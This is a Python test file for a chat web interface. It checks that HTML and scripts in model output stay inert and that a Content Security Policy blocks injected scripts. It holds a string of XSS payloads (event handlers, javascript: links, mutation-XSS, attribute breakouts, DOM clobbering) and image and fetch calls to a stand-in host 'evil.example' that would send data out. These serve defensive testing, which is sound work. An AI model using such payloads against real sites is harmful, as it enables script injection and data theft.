"""HTML and scripts in model output are inert, also without the sanitiser."""

import pytest
from support.page_browser import Site, expect

EVIL = (
    '<script>window.hacked = 1</script><img src=x onerror="window.hacked = 2">\n'
    "![picture](https://evil.example/steal?q=secret) [click](javascript:window.hacked=3) "
    "[data](data:text/html,<script>window.hacked=4</script>)\n"
    '<svg onload="window.hacked = 5"><iframe src="https://evil.example"></iframe> '
    '<b onclick="window.hacked = 6">bold</b>\n'
    '[x](https://good.example "a\\" onmouseover=\\"window.hacked=7") '
    "<style>body { display: none }</style> "
    '<form action="https://evil.example"><input name=q></form>\n'
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=window.hacked=8&gt;">\n'
    '```"><script>window.hacked = 9</script>\n'
    "code\n"
    "```\n"
    '<a id=createElement name=createElement href="//evil.example">clobber</a> '
    '<https://good.example/"onmouseover=window.hacked=10>'
)


def test_html_in_model_output_is_inert(site: Site) -> None:
    site.script.default = [EVIL, "\n\n", *EVIL]
    user = site.visit()
    user.ask(EVIL)
    user.reload()
    expect(user.answer).to_contain_text("window.hacked = 1")
    user.answer.get_by_text("bold").first.click()
    inside = user.page.evaluate(
        "[...new Set([...document.querySelectorAll('.body *')].map((one) => one.localName))]"
    )
    assert set(inside) <= {
        "div",
        "p",
        "a",
        "b",
        "br",
        "pre",
        "code",
        "span",
        "button",
        "table",
        "tbody",
        "tr",
        "td",
    }
    links = user.page.evaluate(
        "[...document.querySelectorAll('.markdown a')].map((a) => "
        "[a.getAttribute('href'), a.rel, a.id, a.onmouseover])"
    )
    assert links and {href for href, *_ in links if href} <= {
        "https://evil.example/steal?q=secret",
        "https://good.example",
        "https://good.example/%22onmouseover=window.hacked=10",
    }
    assert all(rest == ["noopener noreferrer nofollow", "", None] for _, *rest in links)
    assert user.page.evaluate("window.hacked") is None


def test_the_content_security_policy_blocks_scripts(site: Site) -> None:
    user = site.visit()
    for attack in (
        "document.body.insertAdjacentHTML('beforeend', '<img src=x>')",
        "document.body.setAttribute('onclick', 'window.hacked = 1')",
        "document.body.append("
        "Object.assign(document.createElement('script'), {text: 'window.hacked = 1'}))",
    ):
        with pytest.raises(Exception, match="Trusted"):
            user.page.evaluate(attack)
    sent = "fetch('https://evil.example').then(() => 'sent', () => 'blocked')"
    assert user.page.evaluate(sent) == "blocked"
    assert user.page.evaluate("window.hacked") is None
    assert all(
        "Content Security Policy" in fault or "Trusted" in fault or "evil.example" in fault
        for fault in user.faults
    ), user.faults
    user.faults.clear()
